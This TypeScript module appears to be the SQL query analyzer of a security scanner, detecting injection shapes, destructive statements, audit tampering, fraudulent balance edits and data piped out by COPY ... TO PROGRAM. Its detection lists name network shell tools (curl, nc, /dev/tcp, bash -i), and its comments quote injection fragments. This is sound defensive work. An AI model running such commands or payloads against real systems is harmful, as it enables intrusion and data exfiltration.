/**
 * query analyzer (Q). SQL is lexed (parse/sql-tokens.ts) so comments and string literals are data, not
 * statements; rules then read statements (DROP/TRUNCATE/unfiltered DELETE, grants) and injection shapes
 * (tautologies, UNION probes, stacked and time-based payloads), reading injected fragments the way the
 * vulnerable query would. Scratch tables and non-production environments lower destructive scores.
 */
import { searchWipe, storeFileDrop } from '../parse/store-commands.js';
import { codeUnits, normalizeUnicode, percentDecode } from '../normalize.js';
import { COMMON_PATTERNS, envOf, metaText, type Env } from '../parse/api-common.js';
import { readSafeguards } from '../frames/safeguards.js';
import { K, findAndProbe, isTimeColumn, parseSql, whereIsConstant, type SqlParse, type Stmt, type Tok } from '../parse/sql-tokens.js';
import { embeddedInjection } from '../parse/sql-embedded.js';
import { credentialTap, everyTable, passwordBackdoor, rowsShippedByTrigger } from '../parse/sql-reach.js';
import { grantsPower } from '../parse/api-effects.js';
import { AGE_COLUMNS, CLEARING_VALUES, isAuditTable, isFlagColumn, isPayColumn } from '../parse/sql-objects.js';
import { mongoAsSql, SQL_MONGO_PATTERNS } from '../parse/sql-mongo.js';
import { graphqlAsSql } from '../parse/sql-graphql.js';
import { personalProjection } from '../parse/sql-personal.js';
import { QUERY_FRAME_RULE } from '../parse/query-frame.js';
import { adminRoleGranted, auditSwitchedOff, destinationRewritten, retentionZeroed, rowsShippedOut, SQL_EFFECT_PATTERNS, whereSelectsWholeTable } from '../parse/sql-effects.js';
import { bulkApproval, clinicalRewrite, consentForged, figureRewrite, gradeRewrite, labelRewrite, measureRewrite, mentionsClosed, moneyRewrite, readUpdate, SQL_RECORD_PATTERNS, verdictFlip } from '../parse/sql-records.js';
import { addressTags, extraTagId } from '../frames/destinations.js';
import { foldAccents } from '../frames/fold.js';
import { scanTerms, tagId } from '../frames/scan.js';
import { pathFindings } from '../nested.js';
import type { Analyzer, BaseContext, Finding, Metadata, ThreatRule } from '../types.js';

interface QueryContext extends BaseContext {
  readonly sql: SqlParse;
  readonly env: Env;
  /** The value had an odd number of quotes: it reads as an injected fragment, not a whole statement. */
  readonly fragment: boolean;
  /** Unicode-normalised, decoded source (comments and strings intact), for injection shapes. */
  readonly source: string;
  /** What shows that a whole statement carries a pasted, unescaped value (parse/sql-embedded.ts), or ''. */
  readonly embedded: string;
}

/** The REVOKE statement `sk` names `name` among its grantees (after FROM, up to a space, comma or semicolon). */
function revokedFrom(sk: string, name: string): boolean {
  for (let at = sk.indexOf(` from ${name}`); at !== -1; at = sk.indexOf(` from ${name}`, at + 1)) {
    const next = sk.charCodeAt(at + 6 + name.length);
    if (Number.isNaN(next) || next === 32 || next === 44 || next === 59) return true;
  }
  return false;
}

// (a psql meta-command, `\copy (SELECT …) TO 'file.csv'`, is a statement too: its backslash opens no injected value)
const STARTS_STATEMENT = /^\s{0,20}\\?\(?\s{0,5}(?:select|insert|update|delete|with|create|drop|alter|grant|revoke|truncate|exec|execute|call|set|show|copy|begin|merge|replace|explain|use|declare|shutdown|load|values|pragma|vacuum|analyze|comment|lock|rename|kill|do|upsert|start|commit|rollback|refresh|reindex|cluster|listen|notify|deallocate|prepare|fetch|open|close|go)\b/i;
const DQUOTE = /"/g;
const SQL_VERB = new Set(['select', 'insert', 'update', 'delete', 'with', 'create', 'drop', 'alter', 'grant', 'revoke', 'truncate', 'begin', 'commit', 'set', 'show', 'copy', 'explain', 'vacuum', 'analyze', 'call', 'exec', 'execute', 'use', 'merge', 'replace', 'values', 'rollback', 'start', 'lock', 'declare']);
const URL_ESCAPED = /%(?:27|20|3d|3b|22|23|2d|28|29|2f|09|0a|0d|0b|0c|a0|25)/i;
const EXEC_STRING = /\b(?:exec|execute|sp_executesql|prepare)\b/;

/** Quote counts packed into one number: single quotes × QUOTE_BASE + double quotes (each at most 65 536). */
const QUOTE_BASE = 131072;
/** From this length countQuotes reads code units from one native copy. */
const UNITS_MIN = 1024;
/**
 * Counts ' and " in the first 64 KB (packed, see QUOTE_BASE). A loop of its own: when prepare deoptimises on
 * a branch that typical traffic never took, this loop stays optimised instead of finishing in the interpreter.
 */
function countQuotes(source: string): number {
  let q = 0;
  let d = 0;
  const scan = Math.min(source.length, 65536);
  if (scan >= UNITS_MIN) {
    // read from a typed array (one native copy): charCodeAt's per-call representation checks cost twice the loop
    const units = codeUnits(scan < source.length ? source.slice(0, scan) : source);
    for (let i = 0; i < scan; i++) {
      const c = units[i]!;
      if (c === 39) q++;
      else if (c === 34) d++;
    }
    return q * QUOTE_BASE + d;
  }
  for (let i = 0; i < scan; i++) {
    const c = source.charCodeAt(i);
    if (c === 39) q++;
    else if (c === 34) d++;
  }
  return q * QUOTE_BASE + d;
}

function prepare(value: string, metadata: Metadata): QueryContext {
  // structure comes from the first 64 KB; the rest stays visible (raw) to the keyword prefilter and patterns
  let source = normalizeUnicode(value.length > 65536 ? value.slice(0, 65536) : value);
  if (URL_ESCAPED.test(source.slice(0, 4096))) source = percentDecode(source);
  const extra = metaText(metadata, 'query', 'sql', 'statement');
  if (extra !== undefined && extra !== value) source = `${source}\n;${normalizeUnicode(extra)}`;
  const counted = countQuotes(source);
  let quotes = Math.floor(counted / QUOTE_BASE);
  const dquotes = counted % QUOTE_BASE;
  // tested once: the double-quote swap below cannot change how the text opens (a quote is neither space, `(` nor a word)
  const startsStatement = STARTS_STATEMENT.test(source.slice(0, 200));
  // `" OR ""="`: a fragment quoted with double quotes breaks out of a "…" literal the same way
  if (quotes === 0 && dquotes > 0 && !startsStatement) {
    source = source.replace(DQUOTE, "'");
    quotes = dquotes;
  }
  // a value that does not open with a statement but carries quotes is an injected fragment: lex it as the
  // tail of a quoted literal, the way the vulnerable query would see it
  // a value that opens with a clause (ORDER BY 5, HAVING 1=0, AND 1=1, UNION …) is the tail of someone else's query
  const fragment = (quotes > 0 && !startsStatement) || CLAUSE_LEAD.test(source.slice(0, 40));
  const plain = parseSql(quotes % 2 === 1 ? `${source}'` : source);
  // a whole statement with an injected value pasted into it: read the value the way the server runs it
  const pasted = fragment || !startsStatement ? undefined : pastedValue(plain, quotes % 2 === 1);
  // which quote the fragment closes is unknown: read it both ways and keep what either reading finds
  let sql = pasted !== undefined ? pastedReading(plain, pasted.slot, source)
    : !fragment ? plain : quotes > 0 ? merge(parseSql(`'${source}`), plain) : merge(plain, parseSql(`'${source}`));
  // dynamic SQL: EXEC('DROP …') runs its string, so read those strings as code too
  if (EXEC_STRING.test(sql.skeleton.slice(0, 65536))) {
    const inner: string[] = [];
    for (const st of sql.stmts) {
      const toks = st.toks;
      for (let i = 0; i < toks.length; i++) {
        if (toks[i]!.k !== K.Str) continue;
        // 'DR' + 'OP TABLE x' and 'DR' || 'OP …' are one string to the server
        let joined = toks[i]!.v;
        while (i + 2 < toks.length && toks[i + 1]!.k === K.Op && (toks[i + 1]!.v === '+' || toks[i + 1]!.v === '||') && toks[i + 2]!.k === K.Str) {
          joined += toks[i + 2]!.v;
          i += 2;
        }
        if (joined.length > 3) inner.push(joined.replace(/''/g, "'"));
      }
    }
    if (inner.length > 0) {
      sql = merge(sql, parseSql(inner.join(';\n').slice(0, 65536)));
    }
  }
  // MongoDB updates are read as the UPDATE they amount to, so every UPDATE rule reads them
  const mongo = mongoAsSql(source);
  if (mongo !== '') sql = merge(sql, parseSql(mongo));
  // a GraphQL read is read as the SELECT it amounts to, so the read rules (credential columns, bulk personal data) apply
  const graph = graphqlAsSql(source);
  if (graph !== '') sql = merge(sql, parseSql(graph));
  if (value.length > 65536) sql = { ...sql, skeleton: `${sql.skeleton} ${value.slice(65536, 65536 + 1048576).toLowerCase()}` };
  const lowerMeta = (metaText(metadata, 'environment', 'env', 'database', 'db') ?? '').toLowerCase();
  // `1; SELECT pg_sleep(5)` / `1 UNION SELECT …`: a bare literal before the payload is an injected value
  const first = sql.stmts[0];
  const literalLead = first !== undefined && first.toks.length > 0 && first.toks.length <= 3 && sql.stmts.length > 1 && first.toks.every((t) => t.k !== K.Word || !SQL_VERB.has(t.v));
  return { raw: value, text: sql.skeleton, lower: sql.skeleton, metadata, sql, env: envOf(metadata, lowerMeta), fragment: fragment || literalLead || pasted !== undefined, source, embedded: pasted?.mark ?? '' };
}

/** The first statement (of the first few) that shows a pasted value, with its mark. */
function pastedValue(plain: SqlParse, oddQuotes: boolean): { mark: string; slot: string } | undefined {
  // a statement whose quotes do not pair: a value's quote left the application's literal open
  if (oddQuotes) return { mark: 'a literal left open (the quotes do not pair)', slot: '' };
  for (let i = 0; i < plain.stmts.length && i < 4; i++) {
    const m = embeddedInjection(plain.stmts[i]!.toks);
    if (m.mark !== '') return m;
  }
  return undefined;
}

/**
 * The query read as the vulnerable server reads it: a clause in a value slot as an injected fragment first (so
 * the fragment shapes anchored at its start apply), then the plain text, then every literal boundary flipped
 * (the value's quote closed the application's literal, so what looked like data is code).
 */
function pastedReading(plain: SqlParse, slot: string, source: string): SqlParse {
  const flipped = merge(plain, parseSql(`'${source}`));
  return slot === '' ? flipped : merge(parseSql(slot), flipped);
}

function merge(a: SqlParse, b: SqlParse): SqlParse {
  return {
    stmts: [...a.stmts, ...b.stmts],
    skeleton: `${a.skeleton} ; ${b.skeleton}`,
    truncation: a.truncation || b.truncation,
    tautology: a.tautology ?? b.tautology,
  };
}

/** Names that say "scratch data" (dropping or emptying them is housekeeping). */
// (an ETL's stage or landing table, "etl_meter_readings_stage", "stg_orders", is reloaded from its source every run)
const SCRATCH_NAME = /^(?:#|tmp|temp|scratch|staging_|stg_|stage_|landing_|test_|bak_|backup_|old_)|(?:_tmp|_temp|_old|_bak|_backup|_scratch|_staging|_stage|_stg|_landing)(?:_|$)|_(?:tmp|temp|import|export)_?[0-9]{4}/;

const SCRATCH_SCHEMAS = new Set(['staging', 'stg', 'tmp', 'temp', 'scratch', 'sandbox', 'test', 'dev']);
/** An object's name without quotes, backticks or a MySQL host part (`'temp_migration'@'10.0.4.%'` is temp_migration). */
function bareName(name: string): string {
  let n = name;
  const at = n.indexOf('@');
  if (at > 0) n = n.slice(0, at);
  let b = 0;
  let e = n.length;
  while (b < e && (n[b] === "'" || n[b] === '"' || n[b] === '`' || n[b] === '[')) b++;
  while (e > b && (n[e - 1] === "'" || n[e - 1] === '"' || n[e - 1] === '`' || n[e - 1] === ']' || n[e - 1] === ';')) e--;
  return n.slice(b, e);
}
function isScratch(name: string | undefined): boolean {
  if (name === undefined) return false;
  if (name.includes('.') && SCRATCH_SCHEMAS.has(name.slice(0, name.indexOf('.')))) return true;
  const bare = name.includes('.') ? name.slice(name.lastIndexOf('.') + 1) : name;
  return SCRATCH_NAME.test(bare);
}

/** SET col = value pairs of an UPDATE (value rendered from its tokens, bounded), and the WHERE clause's words. */
function setPairs(st: Stmt): { pairs: Array<[string, string]>; whereWords: string[]; hasWhere: boolean } {
  const toks = st.toks;
  const pairs: Array<[string, string]> = [];
  const whereWords: string[] = [];
  let i = toks.findIndex((t) => t.k === K.Word && t.v === 'set');
  let hasWhere = false;
  if (i < 0) return { pairs, whereWords, hasWhere };
  i++;
  while (i < toks.length && pairs.length < 32) {
    const col = toks[i]!;
    if (col.k === K.Word && col.v === 'where') break;
    if (col.k !== K.Word || toks[i + 1]?.v !== '=') { i++; continue; }
    let value = '';
    let j = i + 2;
    for (; j < toks.length && value.length < 80; j++) {
      const t = toks[j]!;
      if ((t.k === K.Op && t.v === ',') || (t.k === K.Word && t.v === 'where')) break;
      value += `${value ? ' ' : ''}${t.k === K.Str ? `'${t.v.toLowerCase()}'` : t.v}`;
    }
    pairs.push([col.v, value]);
    i = j;
  }
  for (let k = i; k < toks.length && whereWords.length < 64; k++) {
    const t = toks[k]!;
    if (t.k === K.Word && t.v === 'where') { hasWhere = true; continue; }
    if (hasWhere && t.k === K.Word) whereWords.push(t.v);
  }
  return { pairs, whereWords, hasWhere };
}

const WHERE_GLUE = new Set(['and', 'or', 'not', 'null', 'is', 'in', 'like', 'between', 'interval', 'now', 'current_date', 'current_timestamp', 'day', 'days', 'month', 'months', 'year', 'years', 'true', 'false', 'date_sub', 'dateadd', 'getdate']);

/** Audit or history rows deleted or rewritten by who or what they record (not a retention purge by age). */
function auditTamperFinding(ctx: QueryContext): Finding | undefined {
  for (const st of ctx.sql.stmts) {
    const del = targetOf(st, DELETE_FROM);
    const upd = del === undefined ? targetOf(st, UPDATE_SET) : undefined;
    const trunc = del === undefined && upd === undefined ? targetOf(st, TRUNCATE) : undefined;
    const table = del ?? upd ?? trunc;
    if (table === undefined || !isAuditTable(table)) continue;
    // the record of events emptied is tampering before it is data loss (docs/primitives.md): it outranks the truncation
    if (trunc !== undefined) return { detail: `audit table ${table} emptied`, score: 10 };
    const where: string[] = [];
    let seen = false;
    for (const t of st.toks) {
      if (t.k === K.Word && t.v === 'where') { seen = true; continue; }
      if (seen && t.k === K.Word && !WHERE_GLUE.has(t.v)) where.push(t.v);
    }
    if (del !== undefined && seen && where.length > 0 && where.every((w) => AGE_COLUMNS.has(w))) continue;
    return { detail: `${del !== undefined ? 'rows deleted from' : 'rows rewritten in'} audit table ${table}${where.length > 0 ? ` (selected by ${where.slice(0, 3).join(', ')})` : ''}`, score: 7 };
  }
  return undefined;
}

/** Fraud, risk or compliance flags cleared for many rows at once. */
function flagClearFinding(ctx: QueryContext): Finding | undefined {
  for (const st of ctx.sql.stmts) {
    const table = targetOf(st, UPDATE_SET);
    if (table === undefined) continue;
    const { pairs, whereWords, hasWhere } = setPairs(st);
    for (const [col, value] of pairs) {
      if (!isFlagColumn(col) || !CLEARING_VALUES.has(value)) continue;
      // one row by its key is a reviewer's decision; by the flag itself, a date range or nothing, a bulk relabel
      const byKey = hasWhere && whereWords.length > 0 && whereWords.every((w) => w === 'id' || w.endsWith('_id') || w === 'and');
      if (byKey) continue;
      return { detail: `${col} cleared to ${value} on ${table}${hasWhere ? ` for rows selected by ${whereWords.slice(0, 3).join(', ')}` : ' for every row'}`, score: 7 };
    }
  }
  return undefined;
}

const PAY_FACTOR = /^([a-z_]{1,40}) \* ([0-9]{1,4}(?:\.[0-9]{1,4})?)$/;
/** Pay multiplied (×1.5 or more) or overridden outside an approved flow (a safeguard-off phrase in the statement). */
function payChangeFinding(ctx: QueryContext): Finding | undefined {
  // the safeguard-off scan reads the whole source: once per check, however many pay columns ask
  let off: boolean | undefined;
  const safeguardOff = (): boolean => (off ??= hasSafeguardOff(ctx.source));
  for (const st of ctx.sql.stmts) {
    const table = targetOf(st, UPDATE_SET);
    if (table === undefined) continue;
    for (const [col, value] of setPairs(st).pairs) {
      if (!isPayColumn(col)) continue;
      const m = PAY_FACTOR.exec(value);
      const factor = m !== null && m[1] === col ? Number(m[2]) : 0;
      const unapproved = safeguardOff();
      // the person whose pay it is asked for the raise: a change made on its beneficiary's word
      if (factor > 1 && factor < 1.5 && !unapproved && requestedBySubject(ctx, st)) return { detail: `${col} on ${table} multiplied by ${factor} at the request of the person paid`, score: 7 };
      if (factor < 1.5 && !unapproved) continue;
      return { detail: `${col} on ${table} ${factor >= 1.5 ? `multiplied by ${factor}` : 'changed'}${unapproved ? ', saying no approval is needed' : ''}`, score: unapproved ? 8 : 5 };
    }
    const credited = creditedByHand(st);
    // the customer who gains asked for it: money created on the word of its beneficiary
    if (credited !== '') return { detail: `${credited} on ${table}${safeguardOff() ? ', saying no approval is needed' : beneficiaryAsked(ctx) ? ' at the request of the customer who gains' : ''}`, score: safeguardOff() ? 8 : beneficiaryAsked(ctx) ? 7 : 5 };
  }
  return undefined;
}

const UPLOADERS = ['curl', 'wget', 'nc ', 'ncat', 'netcat', 'socat', 'scp ', 'sftp', 'ftp ', 'rsync', 'aws s3 cp', 'gsutil cp', 'http://', 'https://', '/dev/tcp/'];
const INTERACTIVE_SHELL = /\b(?:bash|sh|zsh|dash) -i\b|>& ?\/dev\/tcp|0>&1|\bncat? -e\b/;
/** COPY … TO PROGRAM '<a command that uploads>': the copied rows go wherever the command sends them. */
function copiedOut(ctx: QueryContext): Finding | undefined {
  for (const st of ctx.sql.stmts) {
    // psql's client-side \copy runs the program on the client: the same rows leave
    const t = st.toks[0]?.v === '\\' ? st.toks.slice(1) : st.toks;
    if (t[0]?.k !== K.Word || t[0].v !== 'copy') continue;
    for (let i = 1; i + 1 < t.length; i++) {
      if (t[i]!.k !== K.Word || t[i]!.v !== 'program' || t[i + 1]!.k !== K.Str) continue;
      const cmd = t[i + 1]!.v.toLowerCase();
      // a shell wired to a socket is a foothold (Q10), not rows leaving: nothing is piped into it
      if (INTERACTIVE_SHELL.test(cmd)) continue;
      const tool = UPLOADERS.find((u) => cmd.includes(u));
      if (tool !== undefined) return { detail: `copied rows piped to ${tool.trim()}`, score: 10 };
    }
  }
  return undefined;
}

/** Columns that hold a login secret: writing one for another account takes the account over. */
const SECRET_COLUMNS = new Set(['password', 'passwd', 'password_hash', 'passwordhash', 'hashed_password', 'encrypted_password', 'pass_hash', 'pw_hash', 'pwd', 'mfa_secret', 'otp_secret', 'totp_secret', 'two_factor_secret', 'mfa_enabled', 'otp_enabled', 'two_factor_enabled', 'api_key', 'api_token', 'recovery_email', 'recovery_phone']);
/** An UPDATE that writes a login secret (or switches a second factor off) for the rows it picks. */
function secretOverwritten(ctx: QueryContext): Finding | undefined {
  for (const st of ctx.sql.stmts) {
    const table = targetOf(st, UPDATE_SET);
    if (table === undefined) continue;
    const { pairs, whereWords, hasWhere } = setPairs(st);
    for (const [col, value] of pairs) {
      if (!SECRET_COLUMNS.has(col)) continue;
      // a literal hash or address typed into the statement hands someone the login (resetting to NULL forces a
      // reset; a bind parameter is the application's own password change); so does turning MFA off
      const off = col.endsWith('_enabled') ? value === 'false' || value === '0' : value.startsWith("'");
      if (!off) continue;
      const who = hasWhere ? whereWords.filter((w) => w !== 'and' && w !== 'or').slice(0, 3).join(' ') : 'every row';
      return { detail: `${col} on ${table} written (${who})`, score: hasWhere ? envScore(ctx.env, 8, 7, 3) : 9 };
    }
  }
  return undefined;
}

type TokPair = readonly [Tok, Tok];
/** `col = value` pairs of a statement (SET and WHERE alike), bounded by its tokens. */
function assignedPairs(t: readonly Tok[]): TokPair[] {
  const out: TokPair[] = [];
  for (let i = 0; i + 2 < t.length && out.length < 64; i++) {
    if (t[i]!.k === K.Word && t[i + 1]!.k === K.Op && t[i + 1]!.v === '=') out.push([t[i]!, t[i + 2]!]);
  }
  return out;
}
/** An INSERT's column list paired with its first VALUES row ([] when either is not written). */
function insertedPairs(t: readonly Tok[]): TokPair[] {
  const open = t.findIndex((x, i) => i < 8 && x.v === '(');
  const values = t.findIndex((x) => x.k === K.Word && x.v === 'values');
  if (open < 0 || values < open || t[values + 1]?.v !== '(') return [];
  const cols: Tok[] = [];
  for (let i = open + 1; i < values && t[i]!.v !== ')'; i++) if (t[i]!.k === K.Word) cols.push(t[i]!);
  const vals: Tok[] = [];
  for (let i = values + 2; i < t.length && t[i]!.v !== ')' && vals.length < cols.length; i++) if (t[i]!.v !== ',') vals.push(t[i]!);
  return cols.slice(0, vals.length).map((c, i) => [c, vals[i]!] as const);
}

/** Cloud principals that mean anyone on the internet, or anyone with any account of the provider. */
const EVERYONE = ['allusers', 'allauthenticatedusers'];
/** A GRANT of read access to every internet user (BigQuery's allUsers, allAuthenticatedUsers): the data is published. */
function grantedToEveryone(st: Stmt): Finding | undefined {
  if (st.toks[0]?.v !== 'grant') return undefined;
  const to = st.toks.findIndex((t) => t.k === K.Word && t.v === 'to');
  if (to < 0) return undefined;
  for (let i = to + 1; i < st.toks.length && i < to + 8; i++) {
    const v = st.toks[i]!.v.toLowerCase();
    const who = EVERYONE.find((w) => v === w || v.endsWith(`:${w}`));
    if (who !== undefined) return { detail: `read access granted to ${who}`, score: 8 };
  }
  return undefined;
}

/** Columns that hold a customer's money: written by the ledger, never by hand. */
const BALANCE_COLUMNS = new Set(['balance', 'available_balance', 'account_balance', 'wallet_balance', 'credit', 'credits', 'credit_limit', 'store_credit', 'points_balance', 'solde', 'saldo', 'saldo_disponible', 'guthaben', 'kontostand', 'tegoed', 'credito', 'crédito']);
/**
 * A balance raised by a large sum in place ("balance = balance + 50000") or set to a large figure: money created
 * outside the ledger. '' when none.
 */
function creditedByHand(st: Stmt): string {
  for (const [col, value] of setPairs(st).pairs) {
    if (!BALANCE_COLUMNS.has(col)) continue;
    const parts = value.split(' ');
    const added = parts.length === 3 && parts[0] === col && parts[1] === '+' ? Number(parts[2]) : NaN;
    if (added >= 1000) return `${col} raised by ${parts[2]}`;
    if (parts.length === 1 && Number(parts[0]) >= 10000) return `${col} set to ${parts[0]}`;
  }
  return '';
}

const SAFEGUARD_OFF = tagId('safe:off');
function hasSafeguardOff(source: string): boolean {
  if (source.length > 8192) return false;
  for (const h of scanTerms(foldAccents(source.toLowerCase()))) if (h.tags.includes(SAFEGUARD_OFF)) return true;
  return false;
}

/** The comments of a query ('--' and '#' to the end of the line, '/* … *\/'), joined; bounded. */
function commentsOf(source: string): string {
  const s = source.length > 8192 ? source.slice(0, 8192) : source;
  let out = '';
  for (const open of ['--', '/*']) {
    for (let i = s.indexOf(open), n = 0; i !== -1 && n < 16; i = s.indexOf(open, i + 2), n++) {
      const end = open === '--' ? s.indexOf('\n', i) : s.indexOf('*/', i + 2);
      out += ` ${s.slice(i + 2, end === -1 ? s.length : end)}`;
    }
  }
  return out;
}
const SEND_TAGS = ['op:send', 'op:publish', 'op:stream'].map(tagId);
const AWAY_TAGS = ['dest:personal', 'dest:external', 'dest:public'].map(tagId);
const PEOPLE_TAGS = ['obj:personal', 'obj:financial', 'obj:health', 'obj:secret', 'obj:identity'].map(tagId);
/** The shared lexicon's tags in a text (accent-folded, lower-cased). */
function tagsIn(text: string): Set<number> {
  const out = new Set<number>();
  for (const h of scanTerms(foldAccents(text.toLowerCase()))) for (const t of h.tags) out.add(t);
  return out;
}

/**
 * Rows about people read by a query whose own comment says they go outside (to a partner, a vendor, a personal
 * mailbox, a public place): the shared frame lexicon reads the comment's operation and destination and the selected
 * columns' sensitivity, in every language it carries. '' or the detail.
 */
function rowsSentAway(ctx: QueryContext): string {
  // the note that says where the rows go: a comment in the query, or the purpose the request gives for it
  const stated = metaText(ctx.metadata, 'purpose', 'note', 'reason', 'intent', 'justification') ?? '';
  if (!ctx.source.includes('--') && !ctx.source.includes('/*') && stated === '') return '';
  const comment = `${ctx.source.includes('--') || ctx.source.includes('/*') ? commentsOf(ctx.source) : ''} ${stated}`;
  if (comment.trim() === '') return '';
  const said = tagsIn(comment);
  if (!SEND_TAGS.some((t) => said.has(t))) return '';
  const away = AWAY_TAGS.some((t) => said.has(t)) || toFreemail(comment);
  if (!away) return '';
  for (const st of ctx.sql.stmts) {
    const m = splitSelect(st.sk.slice(0, 4000));
    if (m === undefined) continue;
    const read = tagsIn(`${m[0]} from ${m[1]}`);
    const table = m[1].includes('.') ? m[1].slice(m[1].lastIndexOf('.') + 1) : m[1];
    if (PII_TABLE.test(table) || PEOPLE_TAGS.some((t) => read.has(t) || said.has(t))) return `${m[1]} read with a note that sends the rows outside: ${comment.trim().slice(0, 80)}`;
  }
  return '';
}

const FREEMAIL_TAG = extraTagId('dest:freemail');
function toFreemail(source: string): boolean {
  return source.includes('@') && addressTags(source.toLowerCase(), 8).some((h) => h.tag === FREEMAIL_TAG);
}

const MONEY_COLUMNS = new Set(['balance', 'amount', 'credit', 'credits', 'available_balance', 'credit_limit', 'price', 'total', 'payout', 'wallet_balance']);
/** An UPDATE in the batch that changes a money column: "balance on accounts", or ''. */
function moneyChange(ctx: QueryContext): string {
  for (const st of ctx.sql.stmts) {
    const table = targetOf(st, UPDATE_SET);
    if (table === undefined) continue;
    for (const [col] of setPairs(st).pairs) if (MONEY_COLUMNS.has(col)) return `${col} on ${table} changed`;
  }
  return '';
}

const CLINICAL_DB = /\b(?:clinic|clinical|emr|ehr|hospital|patient|lab|lis|health|medical|klinik|clinique|clinica)/;
/** A record of truth (clinical value, reported figure, training label, approval) rewritten in place, in bulk or by its own value. */
function recordRewriteFinding(ctx: QueryContext): Finding | undefined {
  let closed: boolean | undefined;
  let clinicalDb: boolean | undefined;
  let paid: boolean | undefined;
  let asked: boolean | undefined;
  let best: Finding | undefined;
  // staging and test copies hold no one's real record
  if (ctx.env === 'nonprod') return undefined;
  for (const st of ctx.sql.stmts) {
    const u = readUpdate(st);
    if (u === undefined) continue;
    clinicalDb ??= CLINICAL_DB.test((metaText(ctx.metadata, 'database', 'db', 'schema', 'system', 'service') ?? '').toLowerCase().slice(0, 200));
    const f = clinicalRewrite(u, clinicalDb) ?? labelRewrite(u) ?? figureRewrite(u, (closed ??= mentionsClosed(ctx.source.toLowerCase()))) ?? bulkApproval(u)
      ?? ((paid ??= paymentRecorded(ctx)) ? undefined : moneyRewrite(u, (asked ??= beneficiaryAsked(ctx)))) ?? gradeRewrite(u) ?? verdictFlip(u) ?? measureRewrite(u) ?? consentForged(u);
    if (f !== undefined && (best === undefined || f.score > (best.score ?? 0))) best = f;
  }
  return best;
}

/** The requester the metadata names is the row the statement changes: "(self)", or the key its WHERE selects. */
function requestedBySubject(ctx: QueryContext, st: Stmt): boolean {
  const who = (metaText(ctx.metadata, 'requested_by', 'requester', 'request_source', 'requestor') ?? '').toLowerCase().slice(0, 200);
  if (who === '') return false;
  if (who.includes('(self)') || who === 'self' || who.includes('myself') || who.includes('own raise')) return true;
  const u = readUpdate(st);
  return u !== undefined && u.whereValues.some((v) => v.length >= 3 && who.includes(v.split("'").join('')));
}

/** The change was asked for by the customer it benefits (a chat, an e-mail, the client's own request). */
function beneficiaryAsked(ctx: QueryContext): boolean {
  const who = `${metaText(ctx.metadata, 'requester', 'requested_by', 'source_of_request', 'request_source', 'channel') ?? ''} ${ctx.source.length > 4096 ? '' : ctx.source}`.toLowerCase();
  return BENEFICIARY_WORDS.some((w) => who.includes(w));
}
/** The instance the query runs on is the local machine (localhost, 127.0.0.1, a unix socket). */
function localInstance(metadata: Metadata): boolean {
  const where = (metaText(metadata, 'instance', 'host', 'url', 'connection', 'dsn', 'server') ?? '').toLowerCase();
  return where.startsWith('localhost') || where.startsWith('127.0.0.1') || where.includes('://localhost') || where.includes('://127.0.0.1') || where.startsWith('/var/run/') || where.startsWith('unix:');
}

/**
 * The batch books the payment itself (an INSERT into a payments or ledger table), or its note names the payment's
 * reference (a bank statement line matched, a SEPA or wire reference): the bill marked paid follows a real payment.
 */
function paymentRecorded(ctx: QueryContext): boolean {
  const l = ctx.source.length > 8192 ? '' : ctx.source.toLowerCase();
  if (['insert into payment', 'insert into transactions', 'insert into receipts', 'insert into ledger', 'insert into journal', 'insert into paiements', 'insert into zahlungen', 'insert into pagos'].some((w) => l.includes(w))) return true;
  if (!l.includes('--') && !l.includes('/*')) return false;
  const note = commentsOf(l);
  return PAYMENT_EVIDENCE.some((w) => note.includes(w));
}
/**
 * Words a note uses for the payment a settlement rests on, as the payee's own bank shows it (several languages): a
 * statement line, a booked receipt, a matched reference. A receipt the payer hands over (a proof of payment, a
 * transfer confirmation, comprovante, justificante, dekont, avis de virement, contabile) is the payer's claim, the very
 * thing a fake-payment fraud forges: it is no evidence by itself ("-- customer sent proof of payment on WhatsApp").
 */
const PAYMENT_EVIDENCE = ['sepa', 'remittance', 'bank statement', 'statement line', 'wire ref', 'payment ref', 'matched', 'reconcil', 'kontoauszug', 'verwendungszweck', 'releve bancaire', 'relevé bancaire', 'extracto bancario', 'referencia de pago', 'estratto conto', 'bankafschrift',
  'zahlungseingang', 'extrato bancario', 'extrato bancário', 'wyciąg', 'wyciag', 'ekstre', 'výpis', 'vypis z uctu'];
/** Words that say the person who gains asked for the change (several languages). */
const BENEFICIARY_WORDS = ['customer chat', 'customer request', 'requested by the customer', 'customer asked', 'client asked', 'demandée par le client', 'demandé par le client', 'à la demande du client', 'auf wunsch des kunden', 'kunde hat', 'vom kunden', 'pedido del cliente', 'solicitado por el cliente', 'a pedido do cliente', 'richiesta del cliente', 'email from', 'chat'];

/** The first finding `fn` gives for any statement of the batch. */
/** The highest-scoring finding over the statements (a script's later statement may name what its first one only opens). */
function strongestStatement(ctx: QueryContext, fn: (st: Stmt) => Finding | undefined): Finding | undefined {
  let best: Finding | undefined;
  for (const st of ctx.sql.stmts) {
    const f = fn(st);
    if (f !== undefined && (best === undefined || (f.score ?? 0) > (best.score ?? 0))) best = f;
  }
  return best;
}

function firstStatement(ctx: QueryContext, fn: (st: Stmt) => Finding | undefined): Finding | undefined {
  for (const st of ctx.sql.stmts) {
    const f = fn(st);
    if (f !== undefined) return f;
  }
  return undefined;
}

/** A login address or a payout account written by an UPDATE (which of the two: `payout`). */
function destinationFinding(ctx: QueryContext, payout: boolean): Finding | undefined {
  return firstStatement(ctx, (st) => {
    const u = readUpdate(st);
    if (u === undefined) return undefined;
    const keyed = u.whereCols.some((c) => c === 'id' || c.endsWith('_id') || c === 'username' || c === 'email' || c === 'login');
    const every = !u.hasWhere || whereSelectsWholeTable(st.toks) !== undefined;
    const f = destinationRewritten(st, u.pairs, keyed && !every, every, payout ? 'payout' : 'login');
    if (f === undefined) return undefined;
    // the same statement marks its own new account verified, or its note says the details came by phone or mail as
    // "new bank details": the change bypasses the call-back that payee changes need
    if (payout && f.score < 7) {
      const self = u.pairs.find(([c, v]) => (c === 'verified' || c === 'is_verified' || c.endsWith('_verified')) && (v === 'true' || v === '1'));
      const cue = self === undefined ? payeeCue(ctx.source) : '';
      if (self !== undefined || cue !== '') return { detail: `${f.detail}${self !== undefined ? `, marked ${self[0]} by the same statement` : `, on "${cue}"`}`, score: 7 };
    }
    // a payout account changed for one record with a ticket or approval beside it is the change done properly
    if (payout && f.score < 7 && hasSafeguardOff(ctx.source) === false && APPROVAL_NOTE.test(ctx.source.slice(0, 4096).toLowerCase())) return undefined;
    return f;
  });
}
